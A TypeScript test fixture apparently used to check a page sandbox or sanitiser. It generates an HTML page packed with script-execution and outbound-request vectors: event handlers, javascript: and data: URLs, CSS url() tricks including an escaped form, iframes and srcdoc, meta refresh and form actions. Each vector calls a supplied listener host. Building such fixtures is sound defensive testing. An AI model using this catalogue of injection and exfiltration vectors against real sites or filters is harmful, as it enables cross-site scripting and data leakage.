/** Every way out that a page knows, each naming itself. @param at a host that hears what gets out */
export function hostilePage(at: string): string {
  const run = (name: string) =>
    `fetch('${at}/script-${name}').catch(()=>0);document.title='ran-${name}';try{top.document.title='ran'}catch{}`
  const inner = `<script>${run('srcdoc')}</script>`.replaceAll('"', '&quot;')
  return `<!doctype html><html><head><title>Hostile</title>
<base href="${at}/base/"><meta http-equiv="refresh" content="0;url=${at}/refresh">
<link rel="stylesheet" href="${at}/style.css"><link rel="preload" as="image" href="${at}/preload"><link rel="prefetch" href="${at}/prefetch">
<link rel="dns-prefetch" href="${at}"><link rel="preconnect" href="${at}"><link rel="icon" href="${at}/icon"><link rel="manifest" href="${at}/manifest">
<style>@import "${at}/import.css"; @import url(${at}/import2.css); @font-face{font-family:x;src:url(${at}/font)} body{background:url(${at}/body);font-family:x} p{background:u\\72l(${at}/escape);cursor:url(${at}/cursor),auto} li{list-style-image:url("${at}/list")} h1::before{content:url(${at}/content)}</style>
<script>${run('head')}</script><script src="${at}/script.js"></script><script type="module">${run('module')}</script></head>
<body onload="${run('onload')}" background="${at}/background"><h1>Hostile page</h1>
<img src="x" onerror="${run('onerror')}"><img src="${at}/img" srcset="${at}/srcset 2x" lowsrc="${at}/lowsrc"><picture><source srcset="${at}/source"><img src="relative.png"></picture>
<svg onload="${run('svg')}"><script>${run('svg2')}</script><image href="${at}/svgimage"/><use href="${at}/use#x"/><a href="${at}/svga"><text y="9">x</text></a><style>@import "${at}/svgstyle"</style></svg>
<iframe src="${at}/iframe"></iframe><iframe srcdoc="${inner}"></iframe><iframe src="javascript:${run('iframejs')}"></iframe><frameset><frame src="${at}/frame"></frameset>
<object data="${at}/object"></object><embed src="${at}/embed"><applet code="${at}/applet"></applet><portal src="${at}/portal"></portal>
<video src="${at}/video" poster="${at}/poster" autoplay></video><audio src="${at}/audio" autoplay></audio><track src="${at}/track">
<form id="f" action="${at}/form" method="post"><input name="a" value="b" autofocus onfocus="${run('focus')}"><button formaction="${at}/formaction">Send</button><input type="image" src="${at}/inputimage"></form>
<a id="top" href="${at}/top" target="_top" ping="${at}/ping">Top</a><a href="javascript:${run('href')}">Script link</a><a href="data:text/html,<script>${run('data')}</script>">Data link</a><a href="${at}/download" download>Download link</a>
<table background="${at}/table"><tr><td style="background:url(${at}/td)">Cell</td></tr></table><math><mtext><img src="${at}/math"></mtext></math>
<template><img src="${at}/template"></template><noscript><img src="${at}/noscript"></noscript><details open ontoggle="${run('toggle')}"><summary>More</summary>Text</details>
<p style="animation:a 1s" onanimationstart="${run('animation')}">Last words</p><map><area href="${at}/area"></map><!--<img src="${at}/comment">--></body></html>`
}
